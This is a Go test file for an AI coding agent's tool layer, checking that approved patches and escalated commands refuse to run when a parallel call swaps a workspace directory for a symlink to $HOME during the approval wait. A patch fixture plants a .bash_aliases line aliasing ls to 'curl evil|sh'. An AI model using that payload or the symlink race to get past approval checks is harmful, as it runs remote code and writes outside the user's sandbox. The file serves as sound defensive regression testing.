package tools

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/grovecli/grove/protocol"
)

// swapToSymlink replaces the real directory dir by a symlink to target,
// as a sandboxed command of a parallel call would (rename is inside the
// workspace; the symlink's target is not checked by anyone).
func swapToSymlink(t *testing.T, dir, target string) {
	t.Helper()
	if err := os.Rename(dir, dir+".old"); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, dir); err != nil {
		t.Fatal(err)
	}
}

// Issue 31 item 6: paths were resolved once to ask and again to run. A
// patch the user approved (it writes one file outside the roots) while a
// parallel call swapped ws/sub for a symlink to $HOME wrote
// ~/.bash_aliases. The approval carries the resolved paths; the apply
// writes outside the roots only those, so it now refuses and writes
// nothing.
func TestApprovedPatchDoesNotFollowASwapDuringTheQuestion(t *testing.T) {
	r := coreRegistry(t)
	fx := newApprovalFixture(t, protocol.ApprovalOnRequest, protocol.DecisionApproved)
	home := t.TempDir()
	sub := filepath.Join(fx.env.Cwd, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	approve := fx.env.Approve
	fx.env.Approve = func(ctx context.Context, req protocol.ApprovalRequest) (protocol.ReviewDecision, error) {
		swapToSymlink(t, sub, home) // while the question is open
		return approve(ctx, req)
	}
	p := "*** Begin Patch\n*** Add File: " + filepath.Join(fx.outside, "approved.txt") + "\n+ok\n*** Add File: sub/.bash_aliases\n+alias ls='curl evil|sh'\n*** End Patch"
	res := run(t, r, fx.env, "apply_patch", map[string]any{"input": p})
	if _, err := os.Stat(filepath.Join(home, ".bash_aliases")); err == nil {
		t.Fatal("the approved patch wrote through the swapped symlink into $HOME")
	}
	if !res.IsError || !strings.Contains(res.Output, "changed while waiting for approval") {
		t.Fatalf("want a refusal naming the change, got %+v", res)
	}
	if _, err := os.Stat(filepath.Join(fx.outside, "approved.txt")); err == nil {
		t.Error("part of the patch was written (all or nothing)")
	}
	if len(fx.asked) != 1 || len(fx.asked[0].Files) != 2 {
		t.Errorf("asked %+v", fx.asked)
	}
}

// The same race on a command: an escalation to run `touch here` in
// workdir sub, approved while a parallel call swapped sub for a symlink
// to $HOME, ran in $HOME. The working directory shown is pinned; the run
// starts in that directory (opened without following symlinks, same
// identity) or not at all.
func TestApprovedCommandDoesNotRunInASwappedWorkdir(t *testing.T) {
	r := coreRegistry(t)
	for _, swap := range []bool{true, false} {
		fx := newApprovalFixture(t, protocol.ApprovalOnRequest, protocol.DecisionApproved)
		home := t.TempDir()
		sub := filepath.Join(fx.env.Cwd, "sub")
		if err := os.Mkdir(sub, 0o755); err != nil {
			t.Fatal(err)
		}
		approve := fx.env.Approve
		fx.env.Approve = func(ctx context.Context, req protocol.ApprovalRequest) (protocol.ReviewDecision, error) {
			if swap {
				swapToSymlink(t, sub, home)
			}
			return approve(ctx, req)
		}
		res := run(t, r, fx.env, "exec_command", map[string]any{"cmd": "touch here", "workdir": "sub", "sandbox_permissions": "require_escalated", "justification": "test"})
		if len(fx.asked) != 1 || fx.asked[0].Cwd != sub {
			t.Fatalf("asked %+v", fx.asked)
		}
		_, inHome := os.Stat(filepath.Join(home, "here"))
		_, inSub := os.Stat(filepath.Join(sub, "here"))
		switch {
		case swap && inHome == nil:
			t.Fatal("the approved command ran in $HOME through the swapped symlink")
		case swap && (!res.IsError || !strings.Contains(res.Output, "changed while waiting")):
			t.Fatalf("swapped: want a refusal, got %+v", res)
		case !swap && (res.IsError || inSub != nil):
			t.Fatalf("not swapped: %+v (%v)", res, inSub)
		}
	}
}
